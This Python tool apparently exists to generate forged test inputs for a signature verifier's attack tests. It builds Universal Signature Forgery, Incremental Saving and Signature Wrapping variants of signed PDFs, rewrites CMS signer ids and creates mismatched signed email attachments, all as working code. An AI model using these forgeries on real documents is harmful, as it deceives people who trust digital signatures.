#!/usr/bin/env python3
"""attacktool.py - forged signatures, PDFs and messages for attacks-test.sh.

Only the Python standard library.  Every command writes OUT and prints a short note of
what it made; it exits 1 (with a message) when the input does not have the expected shape,
so that a test never silently checks something else than it says.

  attacktool.py sid IN OUT CERT_FROM CERT_TO   in a DER CMS, make the SignerInfo's sid
                                         (issuer+serial, or subjectKeyIdentifier) that names
                                         CERT_FROM name CERT_TO instead (PEM files)
  attacktool.py usf IN OUT MODE          Universal Signature Forgery on a sealed PDF: the
                                         last signature's /ByteRange or /Contents removed,
                                         null, empty or of a wrong type, rewritten in place
                                         (same length); page 1's text changed as well
  attacktool.py isa IN OUT MODE          Incremental Saving Attack: an update appended after
                                         the seal (see ISA_MODES)
  attacktool.py swa IN OUT MODE [KEY CERT CAS]  Signature Wrapping Attack (see swa())
  attacktool.py sign-late IN OUT KEY CERT CAS   sign IN with OpenSSL (adbe.pkcs7.detached),
                                         the /ByteRange placed after /Contents, as some
                                         signers write it (the input of the classic SWA)
  attacktool.py pairing OUT_DIR DOC_A DOC_B SIG_A   messages pairing SIG_A (a seal of DOC_A)
                                         with the wrong attachment
"""

import base64
import re
import subprocess
import sys
import os
from email.message import EmailMessage

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "pdf"))
from pdftool import resign  # noqa: E402  (one OpenSSL re-signer for both tools)

BYTERANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")


def die(msg):
    sys.stderr.write("attacktool: %s\n" % msg)
    sys.exit(1)


def read(path):
    with open(path, "rb") as f:
        return f.read()


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


# ------------------------------------------------------------------------------ CMS

def der_of_pem(path):
    r = subprocess.run(["openssl", "x509", "-in", path, "-outform", "DER"], capture_output=True)
    if r.returncode != 0:
        die("openssl x509 %s: %s" % (path, r.stderr.decode(errors="replace")))
    return r.stdout


def tlv(data, at):
    """(tag, start of value, end of value) of the DER element at offset at."""
    tag, n = data[at], data[at + 1]
    at += 2
    if n & 0x80:
        k = n & 0x7F
        n = int.from_bytes(data[at:at + k], "big")
        at += k
    return tag, at, at + n


def children(data, start, end):
    out = []
    while start < end:
        tag, vs, ve = tlv(data, start)
        out.append((tag, start, vs, ve))
        start = ve
    return out


def cert_ids(der):
    """(issuer DER, serial INTEGER DER, subjectKeyIdentifier bytes or None) of a certificate."""
    _, vs, ve = tlv(der, 0)
    tbs = children(der, *tlv(der, vs)[1:])
    i = 1 if tbs[0][0] == 0xA0 else 0  # [0] version
    serial = der[tbs[i][1]:tbs[i][3]]
    issuer = der[tbs[i + 2][1]:tbs[i + 2][3]]
    ski = None
    m = re.search(rb"\x06\x03\x55\x1d\x0e\x04\x16\x04\x14(.{20})", der, re.S)
    if m:
        ski = m.group(1)
    return issuer, serial, ski


def sid(inp, out, cert_from, cert_to):
    data = read(inp)
    fi, fs, fk = cert_ids(der_of_pem(cert_from))
    ti, ts, tk = cert_ids(der_of_pem(cert_to))
    by_name = fi + fs
    n = data.count(by_name)
    if n in (1, 2):  # the sid, and in CAdES the signing-certificate-v2 after it: the first
        if len(ti + ts) != len(by_name):
            die("issuer+serial of the two certificates differ in length")
        write(out, data.replace(by_name, ti + ts, 1))
        print("sid issuerAndSerialNumber rewritten")
        return
    if fk and tk and data.count(b"\x80\x14" + fk) == 1:
        write(out, data.replace(b"\x80\x14" + fk, b"\x80\x14" + tk))
        print("sid subjectKeyIdentifier rewritten")
        return
    die("%s: the signer id of %s is not found exactly once (%d)" % (inp, cert_from, n))


# ------------------------------------------------------------------------------ PDF

def last_sig(data):
    brs = list(BYTERANGE.finditer(data))
    if not brs:
        die("no /ByteRange in the file")
    m = brs[-1]
    nums = [int(v) for v in m.group(1).split()]
    if len(nums) != 4:
        die("last /ByteRange has %d numbers" % len(nums))
    a, b = nums[1], nums[2]
    if data[a:a + 1] != b"<" or data[b - 1:b] != b">":
        die("last /ByteRange does not frame a hex string")
    return m, nums


def change_text(data, limit):
    """Change 'Page 1' to 'Page 7' in the first revision (inside the signed range)."""
    pos = data.find(b"(Page 1 of")
    if pos < 0 or pos >= limit:
        die("no '(Page 1 of' before offset %d" % limit)
    data[pos + 6] = ord("7")


def replace_same_length(data, start, end, text):
    if len(text) > end - start:
        die("replacement %r longer than the %d bytes it replaces" % (text, end - start))
    data[start:end] = text + b" " * (end - start - len(text))


USF_MODES = ("br-missing", "br-null", "br-empty", "br-string", "br-name", "br-reals",
             "br-negative", "br-two", "br-ref", "br-dict", "ct-missing", "ct-null",
             "ct-empty", "ct-name", "ct-number", "ct-literal", "ct-array", "ct-zeros")


def usf(inp, out, mode):
    data = bytearray(read(inp))
    m, nums = last_sig(bytes(data))
    a, b = nums[1], nums[2]
    change_text(data, a)
    brs, bre = m.start(), m.end()  # the whole "/ByteRange [...]" entry
    ct_end = b
    key = data.rfind(b"/Contents", 0, a)
    if key < 0 or data[key + 9:a].strip() != b"":
        die("no /Contents key just before the hex string at %d" % a)
    if mode.startswith("br-"):
        text = {"br-missing": b"", "br-null": b"/ByteRange null",
                "br-empty": b"/ByteRange []", "br-string": b"/ByteRange (0 %d %d %d)" % tuple(nums[1:]),
                "br-name": b"/ByteRange /Full", "br-reals": b"/ByteRange[0. %d %d %d]" % tuple(nums[1:]),
                "br-negative": b"/ByteRange [0 -1 %d %d]" % (b, nums[3]),
                "br-two": b"/ByteRange [0 %d]" % a,
                "br-ref": b"/ByteRange 1 0 R",
                "br-dict": b"/ByteRange << >>"}[mode]
        replace_same_length(data, brs, bre, text)
    else:
        hex_len = b - a
        # /Contents <hex> is rewritten as a whole; the space freed is blanks in the dictionary
        text = {"ct-missing": b"", "ct-null": b"/Contents null", "ct-empty": b"/Contents <>",
                "ct-name": b"/Contents /Sig", "ct-number": b"/Contents 0",
                "ct-literal": b"/Contents (" + b"0" * 64 + b")", "ct-array": b"/Contents [<00>]",
                "ct-zeros": b"/Contents <" + b"0" * (hex_len - 2) + b">"}[mode]
        replace_same_length(data, key, ct_end, text)
    write(out, bytes(data))
    print(mode)


def last_trailer(data):
    m = list(re.finditer(rb"startxref\s+(\d+)", data))
    if not m:
        die("no startxref")
    off = int(m[-1].group(1))
    if data[off:off + 4] != b"xref":
        die("the last xref section at %d is not a table" % off)
    t = data.find(b"trailer", off)
    d = data[t:data.find(b"startxref", t)]
    out = {"prev": off}
    for k, pat in (("Size", rb"/Size\s+(\d+)"), ("Root", rb"/Root\s+(\d+)\s+\d+\s+R")):
        mm = re.search(pat, d)
        if not mm:
            die("last trailer lacks /%s" % k)
        out[k] = int(mm.group(1))
    return out


def obj_text(data, num):
    """The body of the last 'num 0 obj ... endobj' in the file."""
    found = list(re.finditer(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % num, data, re.S))
    if not found:
        die("object %d not found" % num)
    return found[-1].group(1)


def update(data, objs, trailer_extra=b"", prev=True, root=None):
    """data plus an incremental update (xref table) holding objs {num: body}."""
    tr = last_trailer(data)
    size = max(tr["Size"], max(objs) + 1)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    if prev:
        for num in sorted(objs):
            out += b"%d 1\n%010d 00000 n\r\n" % (num, offsets[num])
    else:
        # a complete table: the last definition of every object, as a full rewrite has
        for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj", bytes(out[:xref])):
            offsets.setdefault(int(m.group(1)), 0)
            if int(m.group(1)) not in objs:
                offsets[int(m.group(1))] = m.start()
        out += b"0 %d\n0000000000 65535 f\r\n" % size
        for num in range(1, size):
            if num in offsets:
                out += b"%010d 00000 n\r\n" % offsets[num]
            else:
                out += b"0000000000 00000 f\r\n"
    out += b"trailer\n<< /Size %d /Root %d 0 R" % (size, root or tr["Root"])
    if prev:
        out += b" /Prev %d" % tr["prev"]
    out += trailer_extra + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def page_objects(data, root):
    cat = obj_text(data, root)
    pages = int(re.search(rb"/Pages\s+(\d+)\s+0\s+R", cat).group(1))
    tree = obj_text(data, pages)
    kids = [int(k) for k in re.findall(rb"(\d+)\s+0\s+R", re.search(rb"/Kids\s*\[([^\]]*)\]", tree).group(1))]
    page1 = obj_text(data, kids[0])
    content = int(re.search(rb"/Contents\s+(\d+)\s+0\s+R", page1).group(1))
    return cat, pages, tree, kids, page1, content


ISA_MODES = ("new-root", "new-root-no-form", "catalog-pages", "no-prev", "sig-value",
             "sig-byterange", "prev-loop", "new-root-fresh-sig")

DRAW = b"BT /F1 30 Tf 100 400 Td (PAY 1000000 TO MALLORY) Tj ET\n"


def stream(body):
    return b"<< /Length %d >>\nstream\n" % len(body) + body + b"endstream"


def isa(inp, out, mode):
    """new-root: a new catalog (new object number) whose /Pages is a new tree with a new
    page 1, and the trailer's /Root pointing to it, the /AcroForm kept; new-root-no-form: the
    same with the /AcroForm dropped (the seal no longer reachable from the catalog);
    catalog-pages: the catalog object itself redefined with a new page tree; no-prev: an
    update whose trailer has no /Prev (a parser reading the last section only sees a new
    document); sig-value: the signature dictionary object redefined with the same
    /ByteRange and /Contents but another /Reason (the seal's own object changed);
    sig-byterange: the signature object redefined with a ByteRange covering the whole new
    file (re-pointed at the update); prev-loop: an update whose /Prev points to itself;
    new-root-fresh-sig: new-root, the new catalog's form listing the old field only."""
    data = read(inp)
    tr = last_trailer(data)
    root = tr["Root"]
    size = tr["Size"]
    cat, pages, tree, kids, page1, content = page_objects(data, root)
    new_content = stream(DRAW)
    if mode in ("new-root", "new-root-no-form", "new-root-fresh-sig"):
        c, p, pt = size, size + 1, size + 2
        new_page = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % c, page1)
        new_page = re.sub(rb"/Parent\s+\d+\s+0\s+R", b"/Parent %d 0 R" % pt, new_page)
        rest = b" ".join(b"%d 0 R" % k for k in kids[1:])
        new_tree = b"<< /Type /Pages /Kids [%d 0 R %s] /Count %d >>" % (p, rest, len(kids))
        form = re.search(rb"/AcroForm\s*(<<.*?>>|\d+\s+0\s+R)", cat, re.S)
        if mode == "new-root-no-form" or form is None:
            new_cat = b"<< /Type /Catalog /Pages %d 0 R >>" % pt
        else:
            new_cat = b"<< /Type /Catalog /Pages %d 0 R /AcroForm %s >>" % (pt, form.group(1))
        objs = {c: new_content, p: new_page, pt: new_tree, size + 3: new_cat}
        write(out, update(data, objs, root=size + 3))
    elif mode == "catalog-pages":
        c, p, pt = size, size + 1, size + 2
        new_page = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % c, page1)
        new_page = re.sub(rb"/Parent\s+\d+\s+0\s+R", b"/Parent %d 0 R" % pt, new_page)
        new_tree = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % p
        new_cat = re.sub(rb"/Pages\s+\d+\s+0\s+R", b"/Pages %d 0 R" % pt, cat)
        write(out, update(data, {c: new_content, p: new_page, pt: new_tree, root: new_cat}))
    elif mode == "no-prev":
        write(out, update(data, {content: new_content}, prev=False))
    elif mode in ("sig-value", "sig-byterange"):
        m, nums = last_sig(data)
        start = data.rfind(b" 0 obj", 0, m.start())
        num = int(re.search(rb"(\d+)$", data[max(0, start - 12):start]).group(1))
        body = obj_text(data, num)
        if mode == "sig-value":
            body = re.sub(rb"/Reason\s*\([^)]*\)", b"", body)
            body = body[:-2].rstrip() + b" /Reason (Approved by Mallory) >>"
            write(out, update(data, {num: body, content: new_content}))
        else:
            # the ByteRange in the new object claims the whole file up to the new xref
            probe = update(data, {num: body, content: new_content})
            body2 = BYTERANGE.sub(b"/ByteRange [0 %d %d %d]" % (nums[1], nums[2],
                                                                len(probe) - nums[2]), body)
            write(out, update(data, {num: body2, content: new_content}))
    elif mode == "prev-loop":
        upd = bytearray(update(data, {content: new_content}))
        xref = int(re.findall(rb"startxref\s+(\d+)", bytes(upd))[-1])
        prev = b"/Prev %d" % tr["prev"]
        at = upd.rfind(prev)
        loop = b"/Prev %d" % xref
        upd[at:at + len(prev)] = loop + b" " * (len(prev) - len(loop))
        if len(loop) > len(prev):
            die("cannot write the loop in place")
        write(out, bytes(upd))
    else:
        die("isa: unknown mode %s" % mode)
    print(mode)


HEX_ROOM = 16384


def sign_late(inp, out, key, cert, cas):
    """IN (an unsigned PDF with a classic xref table) plus an update that adds a signature
    field on page 1 whose dictionary has /Contents before /ByteRange, signed with OpenSSL."""
    data = read(inp)
    tr = last_trailer(data)
    root, size = tr["Root"], tr["Size"]
    cat, pages, tree, kids, page1, content = page_objects(data, root)
    sig, field = size, size + 1
    sig_body = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
                b"/M (D:20261125000000Z) /Contents <" + b"0" * HEX_ROOM + b">\n"
                b"/ByteRange [0 0000000000 0000000000 0000000000] >>")
    field_body = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Late) /Rect [0 0 0 0] "
                  b"/F 132 /P %d 0 R /V %d 0 R >>" % (kids[0], sig))
    page = page1[:-2].rstrip() + b" /Annots [%d 0 R] >>" % field
    if b"/Annots" in page1:
        die("page 1 already has /Annots")
    new_cat = cat[:-2].rstrip() + b" /AcroForm << /Fields [%d 0 R] /SigFlags 3 >> >>" % field
    doc = bytearray(update(data, {sig: sig_body, field: field_body, kids[0]: page, root: new_cat}))
    m = BYTERANGE.search(bytes(doc), len(data))
    a = doc.find(b"/Contents <", len(data)) + len(b"/Contents ")
    b = a + HEX_ROOM + 2
    nums = [0, a, b, len(doc) - b]
    text = b"0 %010d %010d %010d" % tuple(nums[1:])
    doc[m.start(1):m.end(1)] = text
    der = resign(bytes(doc), nums, key, cert, cas).hex().encode()
    if len(der) > HEX_ROOM:
        die("the CMS does not fit")
    doc[a + 1:a + 1 + len(der)] = der
    write(out, bytes(doc))
    print(" ".join(map(str, nums)))


SWA_MODES = ("relocate", "relocate-resigned", "contents-relocated", "second-contents")


def swa(inp, out, mode, key=None, cert=None, cas=None):
    """relocate - the classic wrap (needs /ByteRange after /Contents, as sign-late makes):
    the second signed part moved to the end of the file unchanged; in the room made after
    /Contents a new /ByteRange [0 a c' d] pointing at the relocated part, then new objects (a
    new page 1 content) and an xref section that the relocated part's startxref now finds;
    the digest is the original one.  relocate-resigned - the same wrap on any signed PDF,
    re-signed over the new ranges (only the ByteRange rules can catch it).
    contents-relocated - the ByteRange's gap points at a copy of the /Contents string placed
    after the signed revision, the original /Contents left inside the signed range, re-signed.
    second-contents - a second /Contents key in the signature dictionary after the real one
    (duplicate key), re-signed."""
    data = read(inp)
    m, nums = last_sig(data)
    _, a, b, c = nums
    if mode in ("relocate", "relocate-resigned"):
        if mode == "relocate" and m.start() < b:
            die("relocate needs /ByteRange after /Contents (use relocate-resigned)")
        if mode == "relocate-resigned" and key is None:
            die("relocate-resigned needs KEY CERT CAS")
        part2 = data[b:b + c]
        old_xref = int(re.findall(rb"startxref\s+(\d+)", part2)[-1])
        if old_xref < b or data[old_xref:old_xref + 4] != b"xref":
            die("the signed revision's xref table is not in part 2")
        tr = last_trailer(data)
        _, _, _, _, _, content = page_objects(data, tr["Root"])
        # part 2 as far as the xref, then a new xref section where the relocated startxref
        # points, the new page content, and a copy of the original xref section
        head = bytearray(data[b:old_xref])
        orig_x = data[old_xref:data.rfind(b"startxref", 0, b + c)]
        obj = b"%d 0 obj\n" % content + stream(DRAW) + b"\nendobj\n"
        x_len = len(b"xref\n%d 1\n%010d 00000 n\r\ntrailer\n<< /Size %d /Root %d 0 R /Prev %010d >>\n"
                    % (content, 0, tr["Size"], tr["Root"], 0))
        obj_at = old_xref + x_len
        copy_at = obj_at + len(obj)
        newx = (b"xref\n%d 1\n%010d 00000 n\r\ntrailer\n<< /Size %d /Root %d 0 R /Prev %010d >>\n"
                % (content, obj_at, tr["Size"], tr["Root"], copy_at))
        mid = head + newx + obj + orig_x
        start2 = b + len(mid)
        nums2 = [0, a, start2, c]
        br_text = b"/ByteRange [0 %d %d %d]" % (a, start2, c)
        if len(br_text) > len(m.group(0)):
            die("new ByteRange longer than the old")
        br_text += b" " * (len(m.group(0)) - len(br_text))
        doc = bytearray(data[:b] + bytes(mid) + part2)
        if m.start() > b:
            at = m.start() - b
            doc[b + at:b + at + len(br_text)] = br_text
        else:
            doc[m.start():m.end()] = br_text
        if mode == "relocate-resigned":
            der = resign(bytes(doc), nums2, key, cert, cas).hex().encode()
            room = b - a - 2
            if len(der) > room:
                die("the CMS does not fit /Contents")
            doc[a + 1:b - 1] = der + b"0" * (room - len(der))
        write(out, bytes(doc))
        print("0 %d %d %d" % (a, start2, c))
        return
    if key is None:
        die("%s needs KEY CERT CAS" % mode)
    doc = bytearray(data)
    if mode == "contents-relocated":
        # the gap is a copy of <hex> appended after the revision: ByteRange [0 E, E+h, ...]
        copy = data[a:b]
        end = len(data)
        doc = bytearray(data + copy + b"\n")
        nums2 = [0, end, end + len(copy), 1]
    elif mode == "second-contents":
        # a second /Contents <...> right after the first, inside the signed range
        dup = b"/Contents <" + b"0" * 64 + b">"
        doc = bytearray(data[:b] + dup + data[b:])
        nums2 = [0, a, b, c + len(dup)]
    else:
        die("swa: unknown mode %s" % mode)
    br = ("0 %d %d %d" % tuple(nums2[1:])).encode()
    old = m.group(1)
    at = bytes(doc).rfind(b"/ByteRange", 0, len(doc))
    mm = BYTERANGE.search(bytes(doc), at)
    if len(br) > len(old):
        die("no room for ByteRange [%s]" % br.decode())
    doc[mm.start(1):mm.end(1)] = br + b" " * (len(old) - len(br))
    der = resign(bytes(doc), nums2, key, cert, cas).hex().encode()
    room = b - a - 2
    if len(der) > room:
        die("the CMS does not fit /Contents")
    if mode == "contents-relocated":
        # the signature goes into the copy the ByteRange skips; the original stays as it was
        e = nums2[1]
        doc[e + 1:e + 1 + room] = der + b"0" * (room - len(der))
        # the signed bytes must not change: re-sign after placing (the copy is not signed)
        der2 = resign(bytes(doc), nums2, key, cert, cas).hex().encode()
        doc[e + 1:e + 1 + room] = der2 + b"0" * (room - len(der2))
    else:
        doc[a + 1:a + 1 + room] = der + b"0" * (room - len(der))
    write(out, bytes(doc))
    print(br.decode())


# ------------------------------------------------------------------------------ messages

def attach(m, data, name, ctype):
    maintype, subtype = ctype.split("/")
    m.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)


def pairing(outdir, doc_a, doc_b, sig_a):
    """Messages with attachments a.pdf (doc_a), b.txt (doc_b) and the seal of a.pdf placed
    or named so that it pairs with b.txt; and one correct message (the control)."""
    a, b, s = read(doc_a), read(doc_b), read(sig_a)
    layouts = {
        # name: [(data, filename, type)] in order
        "control": [(a, "a.pdf"), (s, "a.pdf.p7s"), (b, "b.txt")],
        "control-after-b": [(a, "a.pdf"), (b, "b.txt"), (s, "a.pdf.p7s")],
        "named-b": [(a, "a.pdf"), (b, "b.txt"), (s, "b.txt.p7s")],
        "named-b-after-a": [(a, "a.pdf"), (s, "b.txt.p7s"), (b, "b.txt")],
        "unnamed-after-b": [(a, "a.pdf"), (b, "b.txt"), (s, "signature.p7s")],
        "named-a-after-b-wrong-a": [(b, "a.pdf"), (a, "b.txt"), (s, "a.pdf.p7s")],
        "b-named-a": [(b, "a.pdf"), (s, "a.pdf.p7s")],
        "case-b": [(a, "a.pdf"), (b, "B.TXT"), (s, "b.txt.P7S")],
        "dup-name": [(a, "x.pdf"), (b, "x.pdf"), (s, "x.pdf.p7s")],
    }
    for name, parts in layouts.items():
        m = EmailMessage()
        m["From"] = "partner@example.net"
        m["To"] = "rcpt@example.org"
        m["Subject"] = "pairing " + name
        m.set_content("Two documents and a seal.\n")
        for data, fname in parts:
            if fname.lower().endswith(".p7s"):
                ctype = "application/pkcs7-signature"
            elif fname.endswith(".pdf"):
                ctype = "application/pdf"
            else:
                ctype = "text/plain"
            if ctype == "text/plain":
                m.add_attachment(data, maintype="application", subtype="octet-stream",
                                 filename=fname)
                m.get_payload()[-1].replace_header(
                    "Content-Type", 'text/plain; name="%s"' % fname)
            else:
                attach(m, data, fname, ctype)
        write("%s/%s.eml" % (outdir, name), m.as_bytes())
        print(name)


def main(argv):
    if len(argv) < 2:
        die(__doc__)
    cmd, args = argv[1], argv[2:]
    table = {"sid": (sid, 4, 4), "usf": (usf, 3, 3), "isa": (isa, 3, 3),
             "swa": (swa, 3, 6), "sign-late": (sign_late, 5, 5), "pairing": (pairing, 4, 4)}
    if cmd not in table or not table[cmd][1] <= len(args) <= table[cmd][2]:
        die("usage:\n" + __doc__)
    table[cmd][0](*args)


if __name__ == "__main__":
    main(sys.argv)
